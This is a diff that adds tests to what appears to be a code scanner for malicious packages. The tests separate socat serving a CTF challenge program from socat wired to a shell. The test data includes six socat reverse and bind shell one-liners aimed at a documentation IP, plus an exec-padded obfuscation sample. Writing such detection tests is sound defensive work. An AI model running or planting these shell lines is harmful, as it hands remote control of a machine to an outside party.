@@ -128,3 +128,40 @@ def test_code_pushed_right_after_a_statement_or_in_a_run_string_is_still_hidden(
     tail = f"\n\nexec('''VERSION = 1{PAD};import os''')\n"
     files = {"pkg/__init__.py": "X = 1\n", "pkg/swig.py": _documented(tail)}
     assert_high_with("pushed in exec", scan(files, _sub(tmp_path, "b")), {"disguise.obfuscation"})
+
+
+# ---------------------------------------------------------------- socat serving a program
+# An evaluation suite's CTF challenge images serve their puzzle on a port:
+# ``socat tcp-listen:1337,fork exec:/challenge/nettools`` and, in a Dockerfile,
+# ``exec:"python3 -u chall.py"``. A socket wired to a named program is a network service;
+# wired to a shell (or to an interpreter given inline code, or to a program held in a
+# variable) it is a reverse or bind shell.
+def test_socat_serving_a_challenge_program_is_no_reverse_shell(tmp_path):
+    files = {
+        "pkg/__init__.py": "X = 1\n",
+        "pkg/challenges/tools/images/victim/run.sh": (
+            "#!/bin/sh\n\nsocat tcp-listen:1337,fork,reuseaddr,su=nobody "
+            "exec:/challenge/nettools 2>/dev/null\n"
+        ),
+        "pkg/challenges/jail/images/victim/Dockerfile": (
+            "FROM python:3.11\nCOPY src /challenge\nEXPOSE 1337\n"
+            'CMD socat -dd tcp-listen:1337,fork,reuseaddr,su=nobody exec:"python3 -u chall.py"\n'
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+def test_socat_wired_to_a_shell_is_still_a_reverse_shell(tmp_path):
+    for i, line in enumerate(
+        (
+            "socat TCP:203.0.113.5:4444 EXEC:/bin/sh",
+            "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:4242",
+            "socat tcp-listen:1337,fork exec:sh,pty,stderr",
+            "socat TCP4:203.0.113.5:80 SYSTEM:'/usr/bin/env bash -i'",
+            "socat tcp:203.0.113.5:80 exec:\"python3 -c 'import pty; pty.spawn(1)'\"",
+            "socat tcp:203.0.113.5:80 exec:$PROGRAM",
+        )
+    ):
+        files = {"pkg/__init__.py": "X = 1\n", "pkg/run.sh": f"#!/bin/sh\n{line}\n"}
+        assert_high_with(line, scan(files, _sub(tmp_path, str(i))), {"chain.reverse_shell"})
